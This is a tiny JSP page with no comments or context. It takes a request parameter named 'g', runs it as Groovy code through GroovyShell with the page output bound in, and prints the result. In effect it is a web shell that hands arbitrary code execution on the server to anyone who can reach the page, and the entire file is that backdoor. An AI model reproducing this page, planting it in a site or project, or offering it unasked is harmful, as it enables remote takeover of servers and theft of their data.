<%@ page import="groovy.lang.GroovyShell,groovy.lang.Binding" %>
<%
    String g = request.getParameter("g");
    if (g != null) {
        Binding bd = new Binding();
        bd.setVariable("out", out);
        Object r = new GroovyShell(bd).evaluate(g);
        out.print(r);
    }
%>
